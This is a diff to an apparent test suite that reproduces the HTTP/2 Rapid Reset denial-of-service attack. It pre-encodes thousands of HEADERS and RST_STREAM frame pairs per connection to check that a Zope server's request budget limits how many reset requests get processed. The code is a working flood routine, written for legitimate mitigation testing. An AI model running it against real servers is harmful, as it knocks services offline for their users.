@@ -140,19 +140,27 @@ def _frames(data):
     return found
 
 
-def rapid_reset(sock, path, pairs, chunk=10, timeout=60.0):
-    """Send ``pairs`` HEADERS + RST_STREAM pairs on ``sock`` (h2c or TLS with ALPN h2) as fast
-    as the socket takes them, reading between buffers, then a PING. Stop at GOAWAY, at the
-    close, or at the PING's answer (the server has handled every pair before it).
-
-    A send that fails (the server closed) does not end the reading: what the server sent
-    before it closed, its GOAWAY, is still in our receive queue."""
+def encode_attack(path, pairs, chunk=10):
+    """(preface, buffers of ``chunk`` pairs, PING) of one attacking connection, encoded before
+    it connects: encoding 5,000 pairs takes seconds on a busy machine, and a connection that
+    says nothing for header-timeout is closed by the server before the attack begins."""
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
     conn.initiate_connection()
     preface = conn.data_to_send()
     buffers = _pairs(conn, path, pairs, chunk)
     conn.ping(PING)
-    ping = conn.data_to_send()
+    return preface, buffers, conn.data_to_send()
+
+
+def rapid_reset(sock, encoded, pairs, timeout=60.0):
+    """Send the ``encoded`` attack's ``pairs`` HEADERS + RST_STREAM pairs on ``sock`` (h2c or
+    TLS with ALPN h2) as fast as the socket takes them, reading between buffers, then a PING.
+    Stop at GOAWAY, at the close, or at the PING's answer (the server has handled every pair
+    before it).
+
+    A send that fails (the server closed) does not end the reading: what the server sent
+    before it closed, its GOAWAY, is still in our receive queue."""
+    preface, buffers, ping = encoded
     attack = Attack(pairs)
     received = bytearray()
     sock.settimeout(timeout)
@@ -244,8 +252,9 @@ def run_attack(server, probe, site_id, connect, marker, connections, pairs, **li
     start = probe and probe.mark()
     attacks = []
     for n in range(connections):
+        encoded = encode_attack(f"/{site_id}?attack={marker}-{n}-", pairs)
         with connect() as sock:
-            attacks.append(rapid_reset(sock, f"/{site_id}?attack={marker}-{n}-", pairs))
+            attacks.append(rapid_reset(sock, encoded, pairs))
     if probe is None:
         pages = None
         assert timed_get(server.url(f"/{site_id}"), timeout=60)[1] == 200
@@ -278,7 +287,9 @@ def check(run, name, budget=True):
     assert run.warnings == (len(run.attacks) if budget else 0)
     if budget:
         run.pages.check()
-    limit = (SHARE if budget else NO_BUDGET_ROW["zope_per_connection"]) * len(run.attacks)
+    # Without the budget the attack lasts seconds, and a worker that frees up meanwhile may
+    # take a request whose RST_STREAM is still unread: a few, against 5,000 before the fix.
+    limit = SHARE * len(run.attacks) if budget else NO_BUDGET_ROW["zope_max"]
     assert run.published <= limit, f"Zope published {run.published} reset requests (at most {limit})"
 
 
